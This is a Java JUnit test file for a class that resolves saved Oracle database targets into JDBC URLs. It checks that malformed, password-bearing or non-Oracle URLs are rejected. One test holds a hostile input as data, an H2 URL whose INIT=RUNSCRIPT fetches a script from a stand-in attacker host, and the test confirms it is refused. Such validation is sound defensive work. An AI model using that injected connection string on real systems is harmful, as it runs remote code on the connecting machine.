package io.fleetdesk.jdbc;

import io.fleetdesk.model.DirectTarget;
import io.fleetdesk.model.DirectTarget.ConnectKind;
import io.fleetdesk.model.DirectTarget.Role;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** What the driver gets from a saved target, and what the DBA reads when it cannot work. */
class ConnectStringsTest {
    @TempDir
    Path dir;

    private static DirectTarget t(ConnectKind kind, String connect, String tnsAdmin, String wallet, Role role) {
        return new DirectTarget("id", "SALES", "", kind, connect, tnsAdmin, wallet, "FLEETMON", role, "");
    }

    private static String problem(DirectTarget t, Map<String, String> env) {
        return io.fleetdesk.support.En.of(assertThrows(ConnectStrings.InvalidTarget.class, () -> ConnectStrings.resolve(t, env)).notice());
    }

    @Test
    void ezConnectBecomesAThinUrlWithTheDefaultPortAndTcpsKept() throws Exception {
        assertEquals("jdbc:oracle:thin:@//db1.example.com:1521/SALES",
                ConnectStrings.resolve(t(ConnectKind.EZCONNECT, "db1.example.com/SALES", "", "", Role.NORMAL), Map.of()).url());
        assertEquals("jdbc:oracle:thin:@//db1:1522/SALES.example.com",
                ConnectStrings.resolve(t(ConnectKind.EZCONNECT, " //db1:1522/SALES.example.com ", "", "", Role.NORMAL), Map.of()).url());
        assertEquals("jdbc:oracle:thin:@tcps://adb.eu-frankfurt-1.oraclecloud.com:1522/abc_high.adb.oraclecloud.com",
                ConnectStrings.resolve(t(ConnectKind.EZCONNECT, "tcps://adb.eu-frankfurt-1.oraclecloud.com:1522/abc_high.adb.oraclecloud.com",
                        "", "", Role.NORMAL), Map.of()).url());
        assertTrue(problem(t(ConnectKind.EZCONNECT, "db1:1521", "", "", Role.NORMAL), Map.of()).contains("host:port/service"));
        assertTrue(problem(t(ConnectKind.EZCONNECT, "db1:99999/SALES", "", "", Role.NORMAL), Map.of()).contains("not a port"));
        assertTrue(problem(t(ConnectKind.URL, "db1:1521/SALES", "", "", Role.NORMAL), Map.of()).contains("choose EZConnect"));
    }

    @Test
    void aUrlWithThePasswordInItOrForAnotherDriverIsRefused() throws Exception {
        for (String withPassword : List.of("jdbc:oracle:thin:scott/tiger@//db1:1521/SALES",
                "jdbc:oracle:thin:system/Welcome1#@db1:1521:ORCL", "JDBC:ORACLE:THIN:scott@//db1:1521/SALES",
                "jdbc:oracle:thin:@//db1:1521/SALES?oracle.jdbc.password=tiger")) {
            assertTrue(problem(t(ConnectKind.URL, withPassword, "", "", Role.NORMAL), Map.of())
                    .contains("Leave the user name and password out of the URL"), withPassword);
        }
        // H2 is on the class path (the demo): its INIT= runs a script when it connects.
        for (String other : List.of("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:postgresql://db1/sales", "jdbc:oracle:oci:@SALES")) {
            assertTrue(problem(t(ConnectKind.URL, other, "", "", Role.NORMAL), Map.of()).contains("Oracle thin URL"), other);
        }
        assertEquals("jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=db1)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=S)))",
                ConnectStrings.resolve(t(ConnectKind.URL, "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=db1)"
                        + "(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=S)))", "", "", Role.NORMAL), Map.of()).url());
    }

    @Test
    void aTnsAliasIsFoundInTheChosenFolderOrTnsAdminWithoutCaseAndAMissingOneListsWhatIsThere() throws Exception {
        Files.writeString(dir.resolve("tnsnames.ora"), """
                # production
                SALES_HIGH, sales_ha =
                  (DESCRIPTION =
                    (ADDRESS = (PROTOCOL = TCPS)(HOST = adb.example.com)(PORT = 1522))
                    (CONNECT_DATA = (SERVICE_NAME = sales_high.adb.example.com)))
                HR = (DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=hr-db)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=HR)))
                """);
        var r = ConnectStrings.resolve(t(ConnectKind.TNS_ALIAS, "sales_ha", dir.toString(), "", Role.NORMAL), Map.of());
        assertEquals("jdbc:oracle:thin:@sales_ha", r.url());
        assertEquals(dir.toString(), r.properties().get("oracle.net.tns_admin"));
        assertTrue(r.shown().contains("(HOST=adb.example.com)"), r.shown());
        assertEquals("jdbc:oracle:thin:@HR", ConnectStrings.resolve(t(ConnectKind.TNS_ALIAS, "HR", "", "", Role.NORMAL),
                Map.of("TNS_ADMIN", dir.toString())).url(), "TNS_ADMIN when no folder is chosen");
        String missing = problem(t(ConnectKind.TNS_ALIAS, "SALES_LOW", dir.toString(), "", Role.NORMAL), Map.of());
        assertTrue(missing.contains("has no alias SALES_LOW") && missing.contains("SALES_HIGH, SALES_HA, HR"), missing);
        assertTrue(problem(t(ConnectKind.TNS_ALIAS, "HR", "", "", Role.NORMAL), Map.of()).contains("TNS_ADMIN is not set"));
        assertTrue(problem(t(ConnectKind.TNS_ALIAS, "HR", dir.resolve("nope").toString(), "", Role.NORMAL), Map.of())
                .contains("There is no tnsnames.ora in"));
    }

    @Test
    void aWalletFolderMustHoldAWalletAndSysdgBecomesTheInternalLogon() throws Exception {
        assertTrue(problem(t(ConnectKind.EZCONNECT, "db1/SALES", "", dir.toString(), Role.NORMAL), Map.of())
                .contains("no cwallet.sso or ewallet.p12"));
        Files.writeString(dir.resolve("cwallet.sso"), "x");
        var r = ConnectStrings.resolve(t(ConnectKind.EZCONNECT, "tcps://db1:2484/SALES", "", dir.toString(), Role.SYSDG), Map.of());
        assertTrue(r.properties().get("oracle.net.wallet_location").contains("(DIRECTORY=" + dir + ")"));
        assertEquals("sysdg", r.properties().get("internal_logon"));
        assertTrue(problem(new DirectTarget("id", "X", "", ConnectKind.EZCONNECT, "db1/SALES", "", "", " ", Role.NORMAL, ""),
                Map.of()).contains("Give a user name"));
    }
}
